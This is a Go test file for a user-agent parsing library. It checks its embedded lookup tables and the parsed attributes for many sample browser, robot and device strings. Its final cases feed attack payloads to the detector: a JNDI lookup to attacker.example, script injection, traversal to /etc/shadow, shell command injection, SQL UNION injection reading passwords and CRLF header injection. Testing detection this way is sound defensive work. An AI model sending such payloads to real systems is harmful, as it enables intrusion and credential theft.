package uaparse

import (
	"strconv"
	"strings"
	"testing"
)

// TestTablesWellFormed parses every embedded table: the right number of
// columns, no empty column (every entry cites its source), no key given
// twice, and no file left out of tableColumns.
func TestTablesWellFormed(t *testing.T) {
	entries, err := tableFiles.ReadDir("tables")
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != len(tableColumns) {
		t.Errorf("%d files in tables/, %d in tableColumns", len(entries), len(tableColumns))
	}
	for _, e := range entries {
		cols, ok := tableColumns[e.Name()]
		if !ok {
			t.Errorf("tables/%s is not listed in tableColumns", e.Name())
			continue
		}
		rows, err := parseTable(e.Name(), cols)
		if err != nil {
			t.Error(err)
			continue
		}
		seen := map[string]bool{}
		for _, r := range rows {
			key := r[0]
			switch e.Name() {
			case "cpu.tsv", "system_releases.tsv", "model_classes.tsv", "app_platforms.tsv", "tv_devices.tsv", "app_markers.tsv":
				key = r[0] + " " + r[1]
			case "named_robots.tsv":
				// The rule looks keys up in lower case: two keys that
				// differ only in case would be one.
				key = strings.ToLower(r[0])
			case "attack_signatures.tsv":
				key = r[0] + " " + r[1]
				// The loader matches fragments on the lower case user
				// agent: an upper case fragment would never match.
				if f, err := strconv.Unquote(r[1]); err != nil || f == "" || f != strings.ToLower(f) {
					t.Errorf("tables/attack_signatures.tsv: %s is not a quoted, non-empty, lower case fragment", r[1])
				}
			}
			if seen[key] {
				t.Errorf("tables/%s: %q is listed twice", e.Name(), key)
			}
			seen[key] = true
			if src := r[len(r)-1]; len(strings.TrimSpace(src)) < 5 {
				t.Errorf("tables/%s: %q cites no source (%q)", e.Name(), key, src)
			}
		}
	}
}

// TestParseTableRefusesMalformed shows the loader's checks on bad lines.
func TestParseTableRefusesMalformed(t *testing.T) {
	if _, err := parseTable("brands.tsv", 4); err == nil || !strings.Contains(err.Error(), "columns") {
		t.Errorf("wrong column count: err %v", err)
	}
	if _, err := parseTable("missing.tsv", 3); err == nil {
		t.Error("a missing table gave no error")
	}
}

func TestCPUTable(t *testing.T) {
	for _, c := range []struct{ entry, want string }{
		{"x11; linux x86_64", "Intel x86_64"},
		{"linux amd64", "AMD64"},
		{"win64", "Intel x86_64"},
		{"wow64", "Intel x86_64"},
		{"linux i686", "Intel i686"},
		{"linux aarch64", "AArch64"},
		{"linux armv7l", "ARMv7l"},
		{"ppc", "PowerPC"},
		{"macintosh ppc", "PowerPC"},
		{"mac_powerpc", "PowerPC"},
		{"linux ppc64le", "PowerPC 64 LE"},
		{"sunos sun4u sparc64", "Sparc 64"},
		{"windows nt 6.2; arm", "ARM"},
		{"windows nt 10.0", ""},
		{"en-us", ""},
	} {
		if got := cpuFromEntry(c.entry); got != c.want {
			t.Errorf("cpuFromEntry(%q) = %q, want %q", c.entry, got, c.want)
		}
	}
}

func TestTableFactsReachTheAnalyzer(t *testing.T) {
	a := New(Options{})
	for _, c := range []struct{ ua, attr, want string }{
		// brands.tsv
		{"Mozilla/5.0 (Linux; Android 10; SM-G973F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/83.0.4103.106 Mobile Safari/537.36", "DeviceBrand", "Samsung"},
		// windows_oem.tsv
		{"Mozilla/5.0 (Windows NT 6.3; WOW64; Trident/7.0; MALNJS; rv:11.0) like Gecko", "DeviceBrand", "Lenovo"},
		// http_libraries.tsv
		{"python-requests/2.25.1", "DeviceName", "Python Requests"},
		// robot_names.tsv
		{"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "AgentName", "Bingbot"},
		// systems.tsv
		{"Mozilla/5.0 (X11; FreeBSD amd64; rv:91.0) Gecko/20100101 Firefox/91.0", "OperatingSystemName", "FreeBSD"},
		{"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; XBLWP7; ZuneWP7)", "OperatingSystemName", "Windows Phone"},
		{"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; ZuneWP7)", "DeviceClass", "Phone"},
		// linux_distros.tsv
		{"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:89.0) Gecko/20100101 Firefox/89.0", "OperatingSystemName", "Ubuntu"},
		{"Mozilla/5.0 ArchLinux (X11; U; Linux x86_64; en-US) AppleWebKit/534.30 (KHTML, like Gecko) Chrome/12.0.742.100 Safari/534.30", "OperatingSystemName", "Arch Linux"},
		{"Opera/9.80 (X11; Linux x86_64; Sabayon) Presto/2.12.388 Version/12.16", "OperatingSystemName", "Sabayon"},
		{"Mozilla/5.0 (X11; Linux i686; rv:45.0) Gecko/20100101 Firefox/45.0 Ordissimo/3.8.6.6+svn37147", "OperatingSystemName", "Ordissimo"},
		{"Mozilla/5.0 (X11; Linux i686 on x86_64; rv:42.0) Gecko/20100101 Firefox/42.0 webissimo3/3.7.22+svn30377", "OperatingSystemName", "Ordissimo"},
		{"Mozilla/5.0 (X11; Linux i686; rv:45.0) Gecko/20100101 Firefox/45.0 Ordissimo/3.8.7.1+svn37200", "DeviceBrand", "Ordissimo"},
		{"Opera/9.80 (X11; Linux x86_64; Sabayon) Presto/2.12.388 Version/12.16", "DeviceName", "Linux Desktop"},
		// cpu.tsv
		{"Mozilla/5.0 (X11; Linux aarch64; rv:89.0) Gecko/20100101 Firefox/89.0", "DeviceCpu", "AArch64"},
		// app_spellings.tsv (Spark's desktop app, an Electron shell)
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) SparkMail/3.20.1 Chrome/120.0.6099.109 Safari/537.36", "AgentName", "Spark mail"},
		// robot_device_names.tsv
		{"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "DeviceName", "Microsoft BingBot"},
		// system_releases.tsv (an Ubuntu code name, a Windows NT kernel version)
		{"Mozilla/5.0 (X11; U; Linux i686; de; rv:1.9.0.5) Gecko/2008121711 Ubuntu/intrepid Firefox/3.0.5", "OperatingSystemVersion", "8.10"},
		{"Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:52.0) Gecko/20100101 Firefox/52.0", "OperatingSystemNameVersion", "Windows 7"},
		// fediverse_servers.tsv (a Mastodon server fetching through its HTTP library)
		{"http.rb/5.1.1 (Mastodon/4.2.1; +https://social.example.org/)", "AgentName", "Mastodon"},
		// unix_desktops.tsv
		{"Mozilla/5.0 (X11; SunOS sun4u; rv:52.0) Gecko/20100101 Firefox/52.0", "DeviceBrand", "SUN Microsystems"},
		// robot_engine_names.tsv (Meta's link preview crawler, its documented user agent)
		{"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "LayoutEngineName", "Facebook ExternalHit"},
		// browsers.tsv (a browser built on Chromium: its token comes before Chrome's)
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Vivaldi/6.5.3206.48", "AgentName", "Vivaldi"},
		// tv_platforms.tsv (a television's browser named in a product)
		{"VIZIO V505M-K09 ViziOS/1.4.512.847.1 ExampleTV/24.06.13.2", "DeviceClass", "TV"},
		// tv_vendors.tsv (a retailer's house brand named after the retailer)
		{"Mozilla/5.0 (Linux ) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/77.0.3865.120 Safari/537.36 OPR/46.0.2207.0 OMI/4.20.5.61.LIMA.164 Model/Vestel-MB181 VSTVB MB100 FVC/5.0 (DIXONS-LOGIK; MB181; ) SmartTvA/3.0.0", "DeviceBrand", "Logik"},
		// tv_devices.tsv (a box known by its own marker)
		{"Roku/DVP-10.5 (10.5.0.4208-C2)", "DeviceName", "Roku Digital Video"},
		// set_top_box_makers.tsv
		{"Mozilla/5.0 (X11; Linux armv7l; Humax HGA12R) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/68.0.3440.106 Safari/537.36", "DeviceBrand", "Humax"},
		// domain_brands.tsv (a robot whose contact is on Microsoft's link shortener)
		{"Mozilla/5.0 (compatible; LinkCheck/2.1; +https://aka.ms/linkcheck)", "DeviceBrand", "Microsoft"},
		// robot_words.tsv: a generic word, a product, an exception (a phone brand)
		{"ExampleIndexer/1.0", "DeviceClass", "Robot"},
		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Prerender (+https://github.com/prerender/prerender)", "AgentClass", "Robot"},
		{"Mozilla/5.0 (Linux; Android 10; CUBOT X30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", "DeviceClass", "Phone"},
		// amazon_devices.tsv (a Fire tablet by its model code)
		{"Mozilla/5.0 (Linux; Android 9; KFMAWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/100.1.1 like Chrome/100.0.4896.127 Safari/537.36", "DeviceName", "Amazon Fire HD 10 (9TH GEN-2019)"},
		// named_apps.tsv (an app known by its package id)
		{"com.google.android.apps.searchlite/512345 (Linux; U; Android 13; en_US; Pixel 7; Build/TQ3A.230805.001; Cronet/116.0.5845.72)", "AgentName", "Google Go"},
		// edge_versions.tsv (a legacy Edge build)
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Safari/537.36 Edge/14.14291", "AgentVersion", "34.14291"},
		// browser_tags.tsv (a browser that adds its tag to Chrome's user agent)
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 Safari/537.36 Iridium/2021.12", "AgentName", "Iridium"},
		// cpu_words.tsv (a processor tag after the system's name)
		{"Opera/9.80 (Linux mips; U; en) Presto/2.12.407 Version/12.50", "DeviceCpu", "Mips"},
		// languages.tsv (a locale named in Yauaa's words)
		{"Mozilla/5.0 (Linux; U; Android 4.4.2; fa-IR; Example-1 Build/KOT49H) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30", "AgentLanguage", "Farsi (Iran)"},
		// apple_devices.tsv (an app naming the model identifier)
		{"ExampleApp/3.2 (iPhone12,1; iOS 16.6; Scale/2.00)", "DeviceVersion", "iPhone 11"},
		// named_robots.tsv (a monitor known only by its name)
		{"StatusCake/2.0", "DeviceClass", "Robot"},
		// attack_signatures.tsv, one fragment of each family
		{"Mozilla/5.0 ${jndi:ldap://attacker.example/a}", "HackerAttackVector", "Code Injection"},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) <script>alert(1)</script>", "HackerAttackVector", "Code Injection"},
		{"curl/8.0 ../../../../etc/shadow", "HackerAttackVector", "Path Traversal"},
		{"Mozilla/5.0 (X11; Linux x86_64); echo vulnerable", "HackerAttackVector", "Code Injection"},
		{"Mozilla/5.0 (Linux; Android 7.0; ECHO_HOLI Build/NRD90M) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/65.0.3325.109 Mobile Safari/537.36", "DeviceClass", "Phone"},
		{"Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Chrome/120.0.0.0' UNION SELECT password FROM users--", "HackerAttackVector", "Code Injection"},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64)%0d%0aX-Forwarded-For: 127.0.0.1", "DeviceClass", "Hacker"},
		{"Mozlila/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36", "DeviceClass", "Hacker"},
	} {
		if got := a.Analyze(c.ua).Get(c.attr); got != c.want {
			t.Errorf("%s of %q = %q, want %q", c.attr, c.ua, got, c.want)
		}
	}
}
